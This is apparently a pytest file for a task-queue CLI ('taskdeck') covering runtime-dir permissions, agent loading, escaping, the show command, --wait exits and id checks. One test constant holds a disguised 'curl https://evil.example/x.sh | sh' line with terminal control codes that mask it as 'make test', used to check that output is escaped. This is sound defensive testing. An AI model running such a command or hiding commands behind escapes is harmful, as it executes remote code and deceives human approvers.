"""The other commands' rough edges: runtime dir, agents from here, words, escapes, show, --wait, ids."""

from __future__ import annotations

import json
import os
import signal
import stat
import subprocess
from pathlib import Path

import pytest

from core.cli import main
from tests.cli.conftest import Deck, one_line_error, usage_error
from tests.support import until_sync

pytestmark = pytest.mark.timeout(60)

DISGUISED = "curl https://evil.example/x.sh | sh\r\x1b[2K  make test"
"""A command that would paint "make test" over what it really runs, if printed raw."""

SHOWN = "curl https://evil.example/x.sh | sh\\r\\x1b[2K  make test"


def _no_raw_controls(text: str) -> None:
    assert "\x1b" not in text and "\r" not in text, repr(text)


def _submitted(process: subprocess.Popen[str]) -> int:
    """Read `submit --wait`'s first stderr line and return the id it names."""
    line = process.stderr.readline()
    assert line.startswith("taskdeck: submitted as task "), line
    return int(line.split()[4].rstrip(";"))


# ---------------------------------------------------------------- runtime dir


def _without_xdg(deck: Deck, tmp: Path) -> Path:
    """Make `deck` rely on the default runtime dir with no XDG_RUNTIME_DIR; return that dir."""
    for name in ("TASKDECK_RUNTIME_DIR", "XDG_RUNTIME_DIR"):
        deck.env.pop(name, None)
    deck.env["TMPDIR"] = str(tmp)
    deck.runtime_dir = tmp / f"taskdeck-{os.geteuid()}"
    return deck.runtime_dir


def test_without_xdg_runtime_dir_a_private_temp_dir_is_chosen_quietly(tmp_path: Path) -> None:
    deck = Deck(tmp_path)
    fallback = _without_xdg(deck, tmp_path)
    alone = deck.run("ls")
    assert alone.returncode == 2
    assert one_line_error(alone) == f"taskdeck: no daemon running (no connection file in {fallback})"
    assert stat.S_IMODE(fallback.stat().st_mode) == 0o700
    deck.serve()
    try:
        listed = deck.run("ls")
        assert (listed.returncode, listed.stdout, listed.stderr) == (0, "no tasks\n", "")
    finally:
        deck.stop()
    assert "/tmp/taskdeck-UID" in deck.run("ls", "--help").stdout.replace("\n", " ")


def test_a_fallback_runtime_dir_others_can_write_to_is_refused(tmp_path: Path) -> None:
    deck = Deck(tmp_path)
    fallback = _without_xdg(deck, tmp_path)
    fallback.mkdir()
    fallback.chmod(0o777)
    result = deck.run("ls")
    assert result.returncode == 2
    assert "writable by others" in one_line_error(result)


# ------------------------------------------------------------ agents from here


def test_serve_finds_an_agent_package_in_the_current_directory(tmp_path: Path) -> None:
    project = tmp_path / "project"
    (project / "mypkg").mkdir(parents=True)
    (project / "mypkg" / "__init__.py").write_text("")
    (project / "mypkg" / "agents.py").write_text(
        "async def reviewer(ctx):\n    return 'reviewed ' + ctx.description\n"
    )
    deck = Deck(tmp_path)
    deck.serve("--agents", "mypkg.agents:reviewer", cwd=project, script=True)
    try:
        done = deck.run("submit", "reviewer", "PR 812", "--wait")
        assert (done.returncode, done.stdout) == (0, "reviewed PR 812\n"), done.stderr
    finally:
        deck.stop()


def test_an_agent_module_not_found_says_where_it_was_looked_for(tmp_path: Path) -> None:
    deck = Deck(tmp_path)
    result = subprocess.run(
        [deck.python, "-m", "core.cli", "serve", "--no-journal", "--agents", "nopkg.agents:x"],
        cwd=tmp_path,
        env=deck.env,
        capture_output=True,
        text=True,
        timeout=20,
    )
    assert result.returncode == 2
    line = one_line_error(result)
    assert "no module named 'nopkg'" in line
    assert f"current directory ({tmp_path})" in line and "PYTHONPATH" in line


# --------------------------------------------------------- words and escapes


def test_ls_takes_the_dashboards_status_words_too(deck: Deck) -> None:
    deck.run("submit", "shell", "true")
    blocked = deck.blocked_task("true")
    for word in ("blocked", "waiting", "asking", "BLOCKED"):
        listed = deck.run("ls", "--status", word, "--json")
        assert listed.returncode == 0, listed.stderr
        assert [t["id"] for t in json.loads(listed.stdout)] == [blocked["id"]]
    for word in ("running", "in_progress", "done", "finished", "queued", "failed"):
        listed = deck.run("ls", "--status", word, "--json")
        assert (listed.returncode, json.loads(listed.stdout)) == (0, []), word
    refused = usage_error(deck.run("ls", "--status", "sleeping"))
    assert "in_progress/running" in refused and "finished/done" in refused


def test_ls_clips_a_multi_line_description_to_its_first_line(deck: Deck) -> None:
    deck.run("submit", "shell", "echo one\necho two")
    deck.blocked_task("echo one\necho two")
    header, row, question = deck.run("ls").stdout.splitlines()
    assert row.endswith("echo one …")
    assert question.strip().startswith("? Run `echo one …  [approve / deny]")


def test_control_characters_are_shown_escaped_wherever_the_cli_prints_text(deck: Deck) -> None:
    watcher = deck.start("watch")
    try:
        deck.run("submit", "shell", DISGUISED)
        task = deck.blocked_task(DISGUISED)
        seen = ""

        def watched_it() -> bool:
            nonlocal seen
            seen += watcher.stdout.readline()
            return "blocked" in seen

        until_sync(watched_it, timeout=15, what="watch to print the blocked task")
    finally:
        watcher.terminate()
        watcher.wait(timeout=10)
    _no_raw_controls(seen)
    assert SHOWN in seen
    for argv in (["ls"], ["show", str(task["id"])]):
        out = deck.run(*argv).stdout
        _no_raw_controls(out)
        assert SHOWN in out, argv
    answered = deck.run("answer", str(task["id"]), "deny\x1b[2K", "--reason", "no\rway")
    _no_raw_controls(answered.stdout)
    refused = deck.run("submit", "no-such-agent\x1b[31m", "x")
    assert "no-such-agent\\x1b[31m" in one_line_error(refused)
    _no_raw_controls(refused.stderr)


def test_asks_echo_of_the_answer_is_escaped(deck: Deck) -> None:
    asker = deck.start("ask", "Name?")
    task_id, _ = deck.asked(asker)
    deck.run("answer", str(task_id), "\x1b[2Kapprove")
    out, _ = asker.communicate(timeout=15)
    assert (asker.returncode, out) == (3, "\\x1b[2Kapprove\n")


# ----------------------------------------------------------------------- show


def test_show_tells_the_whole_story_of_one_task(tmp_path: Path) -> None:
    deck = Deck(tmp_path)
    deck.serve("--journal", str(tmp_path / "journal.sqlite3"))
    try:
        asker = deck.start("ask", "Drop the table?")
        task_id, _ = deck.asked(asker)
        deck.run("answer", str(task_id), "deny", "--reason", "not on a Friday")
        assert asker.wait(timeout=15) == 1
        shown = deck.run("show", str(task_id))
        assert shown.returncode == 0, shown.stderr
        text = shown.stdout
        assert text.startswith(f"task {task_id}  ✓ finished\n")
        for part in (
            "description Drop the table?",
            "result      denied: not on a Friday",
            "  answered\n",
            "question    Drop the table?  [approve / deny]",
            "answer      deny  (denied)",
            "reason      not on a Friday",
            "by          cli:",
            "decisions:",
        ):
            assert part in text, part
        [decision_line] = [line for line in text.splitlines() if " answer  task " in line]
        assert "not on a Friday" in decision_line
        as_json = json.loads(deck.run("show", str(task_id), "--json").stdout)
        assert as_json["task"]["id"] == task_id
        [prompt] = as_json["prompts"]
        assert (prompt["answer"], prompt["reason"]) == ("deny", "not on a Friday")
        assert prompt["answered_by"].startswith("cli:") and prompt["answered_at"] > 0
        [decision] = as_json["decisions"]
        assert decision["action"] == "answer" and decision["task_id"] == task_id
    finally:
        deck.stop()


def test_show_says_when_no_decisions_are_kept(deck: Deck) -> None:
    deck.run("submit", "shell", "true")
    task = deck.blocked_task("true")
    text = deck.run("show", str(task["id"])).stdout
    assert "prompt " in text and "  pending" in text
    assert text.endswith("decisions: not recorded (the daemon keeps no journal)\n")
    assert json.loads(deck.run("show", str(task["id"]), "--json").stdout)["decisions"] is None


# -------------------------------------------------------------- submit --wait


@pytest.mark.parametrize(
    ("command", "code", "stdout", "stderr"),
    [
        ("echo hi", 0, "exit 0\nhi\n", ""),
        ("echo bad; exit 3", 1, "", "failed: CommandFailed: exit 3: bad"),
    ],
)
def test_submit_wait_exits_by_the_tasks_outcome(
    deck: Deck, command: str, code: int, stdout: str, stderr: str
) -> None:
    waiter = deck.start("submit", "shell", command, "--wait")
    task_id = _submitted(waiter)
    deck.run("answer", str(task_id), "approve")
    out, err = waiter.communicate(timeout=15)
    assert (waiter.returncode, out) == (code, stdout), err
    assert err.strip() == (f"taskdeck: task {task_id} {stderr}" if stderr else "")


def test_submit_wait_exits_2_when_the_task_is_aborted(deck: Deck) -> None:
    waiter = deck.start("submit", "shell", "sleep 30", "--wait")
    task_id = _submitted(waiter)
    deck.run("abort", str(task_id))
    _, err = waiter.communicate(timeout=15)
    assert waiter.returncode == 2
    assert err.strip().startswith(f"taskdeck: task {task_id} aborted")


def test_submit_wait_stops_waiting_on_sigterm_and_leaves_the_task(deck: Deck) -> None:
    waiter = deck.start("submit", "shell", "sleep 30", "--wait")
    task_id = _submitted(waiter)
    waiter.send_signal(signal.SIGTERM)
    _, err = waiter.communicate(timeout=10)
    assert waiter.returncode == 2
    assert f"stopped waiting (SIGTERM); task {task_id} goes on" in err
    assert next(t for t in deck.tasks() if t["id"] == task_id)["status"] == "blocked"


# ------------------------------------------------------------------------ ids


@pytest.mark.parametrize(
    ("argv", "kind"),
    [
        (["abort", "--", "-1"], "task"),
        (["abort", "9223372036854775808"], "task"),
        (["answer", "--", "-1", "approve"], "task"),
        (["answer", "1", "approve", "--prompt", "-1"], "prompt"),
        (["ls", "--parent", "-1"], "task"),
        (["history", "--task", "-1"], "task"),
        (["show", "--", "-1"], "task"),
        (["show", "x1"], "task"),
        (["submit", "shell", "true", "--parent", "-1"], "task"),
        (["ask", "Q?", "--parent", "-1"], "task"),
    ],
)
def test_every_id_argument_is_checked_the_same_way(
    argv: list[str], kind: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Refused before any daemon is asked: no wire-level words about `$.body.task_id`."""
    with pytest.raises(SystemExit) as exited:
        main([*argv, "--runtime-dir", str(tmp_path)] if "--" not in argv else
             [argv[0], "--runtime-dir", str(tmp_path), *argv[1:]])
    assert exited.value.code == 2
    [line] = capsys.readouterr().err.strip().splitlines()
    assert f"not a {kind} id: " in line and line.endswith("--help)")
    assert "$.body" not in line


def test_an_unknown_task_is_the_same_line_in_every_command(tmp_path: Path) -> None:
    deck = Deck(tmp_path)
    journal = tmp_path / "journal.sqlite3"
    deck.serve("--journal", str(journal))
    try:
        for argv in (
            ["answer", "999", "approve"],
            ["abort", "999"],
            ["ls", "--parent", "999"],
            ["history", "--task", "999"],
            ["show", "999"],
            ["submit", "shell", "true", "--parent", "999"],
            ["submit", "shell", "true", "--parent", "999", "--wait"],
            ["ask", "Q?", "--parent", "999"],
        ):
            result = deck.run(*argv)
            assert result.returncode == 2, argv
            assert one_line_error(result) == "taskdeck: no task 999", argv
    finally:
        deck.stop()
    offline = deck.run("history", "--journal", str(journal), "--task", "999")
    assert offline.returncode == 2 and one_line_error(offline) == "taskdeck: no task 999"
